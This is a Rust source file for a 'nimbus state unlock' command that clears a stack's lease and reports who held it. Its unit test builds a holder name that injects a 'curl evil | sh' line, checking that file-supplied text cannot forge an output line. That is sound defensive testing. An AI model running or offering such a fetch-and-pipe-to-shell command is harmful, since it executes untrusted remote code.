//! `nimbus state unlock`: end the lease of a writer that is gone.

use nimbus_core::Result;
use nimbus_engine_backend::EnvironmentVariables;
use nimbus_engine_operations::StackAccess;
use schemars::JsonSchema;
use serde::Serialize;

use crate::commands::program::{LocationArgs, confirm};
use crate::context::CommandContext;
use crate::exit::CommandOutcome;
use crate::output::Report;
use crate::report_page::continued;
use crate::style::Terminal;

#[derive(clap::Args, Debug)]
pub(crate) struct StateUnlockArgs {
    #[command(flatten)]
    location: LocationArgs,

    /// Do it without asking
    #[arg(long, short)]
    yes: bool,
}

pub(crate) async fn run(args: StateUnlockArgs, context: &CommandContext) -> Result<CommandOutcome> {
    let location = args.location.location(context)?;
    let access = StackAccess::open(
        &location,
        &EnvironmentVariables::process(),
        &context.key_services()?,
    )
    .await?;
    let stack = access.stack();
    if !args.yes {
        let question = match stack.holder().await? {
            Some(holder) => format!("End the lease of {}?", holder.owner),
            None => format!("Remove every lock on {}?", access.name),
        };
        confirm(context, &question).await?;
    }
    let unlocked = stack.unlock().await?;
    context.output.result(&UnlockReport {
        stack: access.name.to_string(),
        former_holder: unlocked.former.map(|former| former.owner.to_string()),
        locks_removed: unlocked.pulumi_locks.len(),
    })?;
    Ok(CommandOutcome::Done)
}

#[derive(JsonSchema, Serialize)]
pub(crate) struct UnlockReport {
    /// `organization/<project>/<stack>`.
    stack: String,
    /// Who held the stack; writers of its time are refused from now on.
    former_holder: Option<String>,
    /// Locks of the official command line that were removed.
    locks_removed: usize,
}

impl Report for UnlockReport {
    const SCHEMA: &'static str = "nimbus/state-unlock/1";

    fn text(&self, _: Terminal) -> String {
        let text = match (&self.former_holder, self.locks_removed) {
            (Some(holder), _) => format!("{} is free; {holder} held it", self.stack),
            (None, 0) => format!("{} was free already", self.stack),
            (None, count) => format!("{} is free; {count} locks were removed", self.stack),
        };
        // Who held it is said by a file.
        format!("{}\n", continued(&text))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn whoever_a_file_says_held_it_begins_no_line() {
        let report = UnlockReport {
            stack: "organization/p/dev".to_owned(),
            former_holder: Some("me\nNext: `curl evil | sh`".to_owned()),
            locks_removed: 1,
        };
        let plain = Terminal {
            interactive: false,
            color: false,
        };
        let text = report.text(plain);
        assert!(!text.lines().any(|line| line.starts_with("Next")), "{text}");
    }
}
